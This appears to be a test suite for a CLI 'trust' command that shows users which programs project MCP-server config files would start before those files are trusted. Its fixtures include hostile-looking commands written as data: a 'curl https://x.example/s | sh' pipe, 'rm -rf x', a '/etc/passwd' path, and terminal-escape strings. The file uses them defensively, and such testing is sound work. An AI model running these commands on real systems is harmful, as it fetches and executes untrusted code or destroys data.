/** Which project files may start programs, and what the person who decides is shown. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { dirname } from 'node:path';
import { test } from 'node:test';
import { createConfiguration } from '../../../src/hub/config/files.ts';
import { trustFile } from '../../../src/hub/config/trust.ts';
import { PROGRAM } from '../../harness/program.ts';
import { withoutPrivilege } from '../../harness/rights.ts';
import { makeTree, type Tree } from '../../harness/tree.ts';

const file = (servers: object) => JSON.stringify({ mcpServers: servers });
const RECORD = 'home/.config/skillwire/trust.json';

function run(tree: Tree, cwd: string, env: Readonly<Record<string, string>> = {}, names: readonly string[] = []) {
  const [command = '', ...args] = [...withoutPrivilege, process.execPath, PROGRAM, 'trust', ...names];
  return spawnSync(command, args, {
    cwd: tree.at(cwd),
    env: { PATH: process.env.PATH, HOME: tree.at('home'), ...env },
    encoding: 'utf8',
  });
}

/** What would become of each server of a project. */
async function states(tree: Tree, cwd: string, trustProject = false, importHosts: readonly string[] = []) {
  const options = { env: {}, configFiles: [], trustProject, importHosts };
  const { configs } = await createConfiguration({ ...options, cwd: tree.at(cwd), home: tree.at('home') })();
  return configs.map(({ name, target }) => `${name} ${target.kind === 'none' ? target.state : target.kind}`);
}

test("a link to a trusted project's file starts nothing in another directory (10.15)", async (t) => {
  const tree = makeTree(t, { 'good/.kode.json': file({ one: { command: './server' } }) });
  assert.equal(run(tree, 'good').status, 0);
  assert.deepEqual(await states(tree, 'good'), ['one stdio']);
  tree.link('clone/.kode.json', tree.at('good/.kode.json'));
  assert.deepEqual(await states(tree, 'clone'), []);
  const { problems } = await createConfiguration({
    env: {},
    configFiles: [],
    trustProject: false,
    cwd: tree.at('clone'),
    home: tree.at('home'),
  })();
  assert.match(problems[0]?.what ?? '', /it is a link/);
  const refused = run(tree, 'clone');
  assert.equal(refused.status, 2);
  assert.match(refused.stderr, /^skillwire: \S+ is not read: it is a link, [^\n]*\n$/);
  // The same bytes in another place are another project's.
  tree.write('copy/.kode.json', file({ one: { command: './server' } }));
  assert.deepEqual(await states(tree, 'copy'), ['one untrusted']);
  // By another way to it, it is the same project.
  symlinkSync(tree.at('good'), tree.at('way'));
  assert.deepEqual(await states(tree, 'way'), ['one stdio']);
  assert.deepEqual(await states(tree, 'clone', true), ['one stdio']);
});

test("a project's file that links to the user's own is a link like any other (10.15)", async (t) => {
  const tree = makeTree(t, { 'home/.kode.json': file({ mine: { command: 'x' } }) });
  tree.link('clone/.kode.json', tree.at('home/.kode.json'));
  const options = { env: {}, configFiles: [], trustProject: false };
  const { configs, problems } = await createConfiguration({
    ...options,
    cwd: tree.at('clone'),
    home: tree.at('home'),
  })();
  assert.deepEqual(
    configs.map(({ name, from }) => [name, from]),
    [['mine', tree.at('home/.kode.json')]],
  );
  assert.equal(problems.length, 1);
});

test('what was trusted before still is, also when the record was made by an older version (10.15)', (t) => {
  const text = file({ one: { command: 'x' } });
  const tree = makeTree(t, { 'good/.kode.json': text });
  run(tree, 'good');
  const { files } = JSON.parse(readFileSync(tree.at(RECORD), 'utf8'));
  assert.deepEqual(Object.keys(files), [tree.at('good/.kode.json')]);
  assert.match(files[tree.at('good/.kode.json')], /^[0-9a-f]{64}$/);
});

test('a record that cannot be read trusts nothing, and stops nothing else (10.15)', async (t) => {
  const tree = makeTree(t, {
    '.kode.json': file({ project: { command: 'x' } }),
    'home/.kode.json': file({ mine: { command: 'x' } }),
  });
  mkdirSync(tree.at(RECORD), { recursive: true });
  assert.deepEqual(await states(tree, '.'), ['mine stdio', 'project untrusted']);
  tree.remove(RECORD);
  tree.write(RECORD, '{"files": 7}');
  assert.deepEqual(await states(tree, '.'), ['mine stdio', 'project untrusted']);
  tree.remove(RECORD);
  assert.equal(spawnSync('mkfifo', [tree.at(RECORD)]).status, 0);
  assert.deepEqual(await states(tree, '.'), ['mine stdio', 'project untrusted']);
});

test('a relative XDG_CONFIG_HOME is ignored (10.21)', (t) => {
  assert.equal(trustFile('/h', { XDG_CONFIG_HOME: 'config' }), '/h/.config/skillwire/trust.json');
  assert.equal(trustFile('/h', { XDG_CONFIG_HOME: '' }), '/h/.config/skillwire/trust.json');
  assert.equal(trustFile('/h', { XDG_CONFIG_HOME: '/c' }), '/c/skillwire/trust.json');
  const tree = makeTree(t, { 'p/.kode.json': file({}) });
  assert.equal(run(tree, 'p', { XDG_CONFIG_HOME: 'here' }).status, 0);
  assert.ok(existsSync(tree.at(RECORD)));
  assert.equal(existsSync(tree.at('p/here')), false);
});

test('everything that would be run is shown as it stands, and of values only names (10.19, 11.26)', (t) => {
  const tree = makeTree(t, {
    '.kode.json': file({
      shell: {
        command: 'sh',
        args: ['-c', 'curl https://x.example/s | sh', '--key=abc123', '${TOKEN}', 'a\u001b[2Jb\u202e'],
      },
      there: { command: './run', cwd: 'sub dir', env: { API_KEY: 's3cr3t', 'B\nC': '${OTHER:-s3cr3t} x ${env:MORE}' } },
      web: { url: 'https://x.example/mcp?k=1', headers: { Authorization: 'Bearer s3cr3t', 'X-T': '${GITHUB_TOKEN}' } },
      off: { command: 'off', disabled: true },
      bare: { disabled: true },
      bad: { command: 1 },
    }),
  });
  const { status, stdout, stderr } = run(tree, '.');
  assert.equal(status, 0, stderr);
  const name = tree.at('.kode.json');
  assert.deepEqual(stdout.split('\n'), [
    `With --hub, ${name} starts:`,
    '  shell: sh -c "curl https://x.example/s | sh" --key=abc123 ${TOKEN} "a\\u001b[2Jb\\u202e"',
    '  there: ./run',
    '    in "sub dir"',
    '    env: API_KEY, "B\\nC" (from ${OTHER} ${env:MORE})',
    '  web: "https://x.example/mcp?k=1" (connects to it)',
    '    headers: Authorization, X-T (from ${GITHUB_TOKEN})',
    '  off: disabled, not started',
    '  bare: disabled, not started',
    '  bad: not started: command must be text',
    `Trusted ${name} as it is now.`,
    '',
  ]);
  const { files } = JSON.parse(readFileSync(tree.at(RECORD), 'utf8'));
  assert.equal(Object.keys(files).length, 1);
});

test('nothing is trusted that could not be shown (10.19)', async (t) => {
  const tree = makeTree(t, { '.kode.json': file({ one: { command: 'x', args: ['y'.repeat(1_000_000)] } }) });
  const child = spawn(process.execPath, [PROGRAM, 'trust'], {
    cwd: tree.path,
    env: { PATH: process.env.PATH, HOME: tree.at('home') },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let said = '';
  child.stderr.setEncoding('utf8').on('data', (text: string) => {
    said += text;
  });
  child.stdout.once('data', () => child.stdout.destroy());
  const [code] = await once(child, 'close');
  assert.equal(code, 1);
  assert.match(said, /^skillwire: not trusted: [^\n]*\n$/);
  assert.equal(existsSync(tree.at(RECORD)), false);
});

test('no fault of the file, the record or the system is a stack trace (10.19)', (t) => {
  const texts: readonly (readonly [text: string | undefined, why: RegExp])[] = [
    [undefined, /does not exist/],
    ['{', /is not a JSON object: line 1, column 2: expected a key/],
    ['[]', /is not a JSON object;/],
    ['{"mcpServers": 7}', /mcpServers must be an object/],
    ['['.repeat(100_000), /is not a JSON object/],
    [`{"x":"${'y'.repeat(4 * 1024 * 1024)}"}`, /it has over 4194304 bytes/],
  ];
  for (const [text, why] of texts) {
    const tree = makeTree(t, text === undefined ? {} : { '.kode.json': text });
    const { status, stdout, stderr } = run(tree, '.');
    assert.equal(status, 2);
    assert.equal(stdout, '');
    assert.match(stderr, /^skillwire: [^\n]*\n$/);
    assert.match(stderr, why);
  }
});

test('a record that cannot be written is one line, and leaves nothing behind (10.19)', (t) => {
  const places: readonly ((tree: Tree) => void)[] = [
    (tree) => void tree.write('home/.config', 'a file'),
    (tree) => void mkdirSync(tree.at(RECORD), { recursive: true }),
    (tree) => {
      mkdirSync(dirname(tree.at(RECORD)), { recursive: true });
      chmodSync(dirname(tree.at(RECORD)), 0o500);
    },
  ];
  for (const prepare of places) {
    const tree = makeTree(t, { '.kode.json': file({ one: { command: 'x' } }) });
    prepare(tree);
    const { status, stdout, stderr } = run(tree, '.');
    assert.equal(status, 1);
    assert.doesNotMatch(stdout, /Trusted/);
    assert.match(stderr, /^skillwire: not trusted: [^\n]*\n$/);
  }
});

test('a project directory that is gone is one line (10.19)', (t) => {
  const tree = makeTree(t, { 'gone/.kode.json': file({}) });
  const script = 'cd "$1" && rm -r "$1" && exec "$2" "$3" trust';
  const { status, stderr } = spawnSync('sh', ['-c', script, 'sh', tree.at('gone'), process.execPath, PROGRAM], {
    env: { PATH: process.env.PATH, HOME: tree.at('home') },
    encoding: 'utf8',
  });
  rmSync(tree.at('gone'), { recursive: true, force: true });
  assert.notEqual(status, 0);
  assert.match(stderr, /^skillwire: [^\n]*\n$/);
});

test("a host's file in the project is trusted by its name, as it is and in this project alone", async (t) => {
  const text = JSON.stringify({ servers: { one: { command: './server' } } });
  const tree = makeTree(t, { 'good/.vscode/mcp.json': text, 'good/.kode.json': file({ own: { command: 'x' } }) });
  const hosts = ['vscode'];
  assert.deepEqual(await states(tree, 'good', false, hosts), ['own untrusted', 'one untrusted']);
  assert.equal(run(tree, 'good').status, 0);
  assert.deepEqual(await states(tree, 'good', false, hosts), ['own stdio', 'one untrusted']);
  assert.equal(run(tree, 'good', {}, ['.vscode/mcp.json']).status, 0);
  assert.deepEqual(await states(tree, 'good', false, hosts), ['own stdio', 'one stdio']);
  // It is read when it is imported, and not before.
  assert.deepEqual(await states(tree, 'good'), ['own stdio']);
  // A directory that is a link to the trusted one is not trusted: another program would be started.
  mkdirSync(tree.at('clone'));
  symlinkSync(tree.at('good/.vscode'), tree.at('clone/.vscode'));
  assert.deepEqual(await states(tree, 'clone', false, hosts), ['one untrusted']);
  tree.write('good/.vscode/mcp.json', text.replace('server"', 'other"'));
  assert.deepEqual(await states(tree, 'good', false, hosts), ['own stdio', 'one untrusted']);
});

test('everything that a file of another format would run is shown', (t) => {
  const tree = makeTree(t, {
    '.codex/config.toml': `[mcp_servers.one]
command = "sh"
args = ["-c", "echo \${HOME}"]
env_vars = ["AWS_PROFILE", "SSH_KEY"]
env = { A = "s3cr3t" }
[mcp_servers.web]
url = "https://x.example/mcp"
bearer_token_env_var = "GITHUB_TOKEN"
http_headers = { "X-A" = "s3cr3t" }
[mcp_servers.bad]
command = 7
`,
    '.vscode/mcp.json': `{
      "inputs": [{ "id": "what", "default": "rm -rf x" }],
      // A comment.
      "servers": { "in": { "command": "sh", "args": ["-c", "\${input:what}", "\${input:other}"] }, },
    }`,
    'opencode.json': '{"mcp":{"code":{"type":"local","command":["x","{env:KEY}"],"environment":{"T":"{env:TOKEN}"}}}}',
  });
  const { status, stdout, stderr } = run(tree, '.', {}, ['.codex/config.toml', './.vscode/mcp.json', 'opencode.json']);
  assert.equal(status, 0, stderr);
  assert.deepEqual(stdout.replaceAll(`${tree.path}/`, '').split('\n'), [
    'With --hub, .codex/config.toml starts:',
    '  one: sh -c "echo ${$}{HOME}"',
    '    env: AWS_PROFILE (from ${AWS_PROFILE}), SSH_KEY (from ${SSH_KEY}), A',
    '  web: https://x.example/mcp (connects to it)',
    '    headers: X-A, Authorization (from ${GITHUB_TOKEN})',
    '  bad: not started: command must be text',
    'Trusted .codex/config.toml as it is now.',
    'With --hub, .vscode/mcp.json starts:',
    '  in: sh -c "rm -rf x" ${input:other}',
    'Trusted .vscode/mcp.json as it is now.',
    'With --hub, opencode.json starts:',
    '  code: x ${KEY}',
    '    env: T (from ${TOKEN})',
    'Trusted opencode.json as it is now.',
    '',
  ]);
});

test('a file outside of the project, and a home that is not known, are one line and exit 2', (t) => {
  const tree = makeTree(t, { 'p/.kode.json': file({}), 'other.json': file({}) });
  for (const name of ['../other.json', tree.at('other.json'), '/etc/passwd']) {
    const { status, stdout, stderr } = run(tree, 'p', {}, [name]);
    assert.deepEqual([status, stdout], [2, ''], name);
    assert.match(stderr, /^skillwire: \S+ is not in this project, [^\n]*\n$/);
  }
  const { status, stderr } = run(tree, 'p', { HOME: '' });
  assert.equal(status, 2);
  assert.match(stderr, /^skillwire: the home directory is not known; set HOME [^\n]*\n$/);
  assert.equal(existsSync(tree.at('p/.config')), false);
});

test('files that are trusted at the same time are all recorded, and no lock stays', async (t) => {
  const tree = makeTree(t);
  const names = Array.from({ length: 12 }, (_, nth) => `project-${nth}`);
  for (const name of names) tree.write(`${name}/.kode.json`, file({ [name]: { command: 'x' } }));
  const env = { PATH: process.env.PATH, HOME: tree.at('home') };
  const runs = names.map((name) => spawn(process.execPath, [PROGRAM, 'trust'], { cwd: tree.at(name), env }));
  const codes = await Promise.all(runs.map(async (child) => (await once(child, 'close'))[0]));
  assert.deepEqual(
    codes,
    names.map(() => 0),
  );
  const { files } = JSON.parse(readFileSync(tree.at(RECORD), 'utf8'));
  assert.deepEqual(Object.keys(files).toSorted(), names.map((name) => tree.at(`${name}/.kode.json`)).toSorted());
  assert.deepEqual(readdirSync(dirname(tree.at(RECORD))), ['trust.json']);
});

test('a lock whose owner was killed is removed after a while', (t) => {
  const tree = makeTree(t, { 'project/.kode.json': file({ one: { command: 'x' } }), [`${RECORD}.lock`]: 'gone' });
  const { status, stderr } = run(tree, 'project');
  assert.deepEqual({ status, stderr }, { status: 0, stderr: '' });
  assert.deepEqual(readdirSync(dirname(tree.at(RECORD))), ['trust.json']);
});
